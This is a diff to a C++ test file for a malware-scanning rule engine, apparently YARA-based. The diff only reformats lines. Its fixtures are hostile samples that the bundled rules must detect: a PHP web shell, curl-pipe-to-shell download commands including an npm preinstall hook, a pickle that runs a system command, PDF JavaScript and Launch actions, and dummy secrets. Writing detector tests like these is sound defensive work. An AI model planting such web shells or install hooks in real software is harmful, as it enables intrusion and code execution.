@@ -26,7 +26,8 @@ TEST_F(Rules, IdsAreUniqueAndEveryRuleExplainsItself) {
 }
 
 TEST_F(Rules, OwnRulesAreAddedToTheBundledOnes) {
-  const auto rules = compile_own("rule marker { meta: severity = \"critical\" strings: $m = \"MARKER\" condition: $m }");
+  const auto rules =
+      compile_own("rule marker { meta: severity = \"critical\" strings: $m = \"MARKER\" condition: $m }");
   ASSERT_TRUE(rules) << to_text(rules.error());
   std::filesystem::remove_all(in() / "rules");
   put("a.txt", "here is the MARKER\n");
@@ -55,7 +56,9 @@ TEST_F(Rules, TheBundledRulesFindWhatTheyAreFor) {
   put("get.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sudo bash\n");
   put("shell.php", "<?php system($_GET['c']); ?>");
   put("a.pdf", "%PDF-1.7\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >>\n2 0 obj << /S /Launch >>\n");
-  put("m.pkl", "\x80\x02" "cposix\nsystem\nq\0X\x02\0\0\0idq\1\x85q\2Rq\3."s);
+  put("m.pkl",
+      "\x80\x02"
+      "cposix\nsystem\nq\0X\x02\0\0\0idq\1\x85q\2Rq\3."s);
   put("k.pem", "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n");
   put("db.env", "URL=postgres://app:hunter2secret@db.example.invalid/x\n");
   put("package.json", R"({"scripts": {"preinstall": "curl http://example.invalid | sh"}})");
@@ -66,7 +69,8 @@ TEST_F(Rules, TheBundledRulesFindWhatTheyAreFor) {
   }();
   for (const char* line : {"yara.reverse_shell shell.sh", "yara.download_and_run get.sh", "yara.web_shell shell.php",
                            "yara.pdf_javascript a.pdf", "yara.pdf_launch a.pdf", "yara.pickle_runs_code m.pkl",
-                           "yara.secret_private_key k.pem", "yara.secret_connection_string db.env", "yara.install_hook_downloads package.json"}) {
+                           "yara.secret_private_key k.pem", "yara.secret_connection_string db.env",
+                           "yara.install_hook_downloads package.json"}) {
     EXPECT_TRUE(got.contains(line)) << line;
   }
 }
